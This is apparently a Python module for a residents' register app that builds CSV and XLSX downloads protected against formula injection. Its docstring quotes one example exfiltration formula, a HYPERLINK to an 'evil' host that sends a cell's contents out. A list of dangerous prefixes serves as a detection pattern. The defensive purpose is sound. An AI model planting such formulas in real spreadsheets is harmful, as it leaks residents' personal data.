"""CSV and XLSX downloads whose cells cannot run as formulas (CSV/formula injection).

An owner's name typed as `=HYPERLINK("http://evil/?"&A1)` or `@SUM(...)` must reach the
committee's spreadsheet as text. CSV: such a cell is prefixed with an apostrophe (OWASP). XLSX: the
cell is stored as a string with Excel's "quote prefix" style, so it shows unchanged and stays text
even when edited.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal

from flask import Response, send_file

from residents_app.formatting import to_local

DANGEROUS_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def is_dangerous(value) -> bool:
    """True for a string a spreadsheet would read as a formula (or a DDE command)."""
    if not isinstance(value, str) or not value:
        return False
    if _PLAIN_NUMBER.fullmatch(value):
        return False  # "-12.50" is a number to Excel, not a formula
    return value.startswith(DANGEROUS_PREFIXES)


def safe_cell(value):
    """A CSV cell value that no spreadsheet evaluates: dangerous strings get a leading apostrophe.

    Numbers, Decimals and dates pass unchanged (a negative amount stays a number); None becomes "".
    Aware datetimes are shown in Beijing time.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return "是" if value else "否"
    if isinstance(value, datetime):
        return to_local(value).strftime("%Y-%m-%d %H:%M:%S")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, int | Decimal):
        return value
    text = str(value)
    return "'" + text if is_dangerous(text) else text


def csv_bytes(rows: Iterable[Sequence]) -> bytes:
    """UTF-8 with a BOM (Excel on Chinese Windows then shows Chinese correctly), CRLF line ends."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
    return ("\ufeff" + buf.getvalue()).encode("utf-8")


def csv_response(rows: Iterable[Sequence], filename: str) -> Response:
    """A CSV download; the first row is usually the header. filename may be Chinese."""
    return _download(csv_bytes(rows), filename, "text/csv; charset=utf-8")


def appended_row(ws) -> int:
    """The number of the row `ws.append` just wrote. openpyxl's `max_row` looks at every cell of the sheet, so
    asking it once per appended row makes a large export quadratic; `append` keeps the row it wrote."""
    return ws._current_row


def append_safe_row(ws, row: Sequence) -> int:
    """Append one row to an openpyxl worksheet with every dangerous string kept as text; returns its number."""
    values = [_xlsx_value(v) for v in row]
    ws.append(values)
    n = appended_row(ws)
    for cell, value in zip(ws[n], values, strict=False):
        if isinstance(value, str):
            cell.data_type = "s"  # openpyxl would otherwise store "=..." as a formula
            if is_dangerous(value):
                cell.quotePrefix = True
    return n


def _xlsx_value(value):
    if value is None:
        return None
    if isinstance(value, bool):
        return "是" if value else "否"
    if isinstance(value, datetime):
        return to_local(value).replace(tzinfo=None)  # Excel has no time zones: Beijing wall time
    if isinstance(value, date | int | Decimal):
        return value
    return str(value)


def xlsx_bytes(rows: Iterable[Sequence], *, sheet_title: str = "Sheet1",
               column_widths: Sequence[int] | None = None) -> bytes:
    from openpyxl import Workbook
    from openpyxl.utils import get_column_letter

    wb = Workbook()
    ws = wb.active
    ws.title = sheet_title[:31]
    for row in rows:
        append_safe_row(ws, row)
    for i, width in enumerate(column_widths or (), start=1):
        ws.column_dimensions[get_column_letter(i)].width = width
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def xlsx_response(rows: Iterable[Sequence], filename: str, *, sheet_title: str = "Sheet1",
                  column_widths: Sequence[int] | None = None) -> Response:
    """An XLSX download of one sheet; the first row is usually the header."""
    data = xlsx_bytes(rows, sheet_title=sheet_title, column_widths=column_widths)
    return _download(data, filename, XLSX_MIMETYPE)


def _download(data: bytes, filename: str, mimetype: str) -> Response:
    resp = send_file(io.BytesIO(data), mimetype=mimetype, as_attachment=True, download_name=filename,
                     max_age=0, etag=False, conditional=False)
    resp.headers["Cache-Control"] = "no-store"  # registers hold names and phone numbers
    return resp
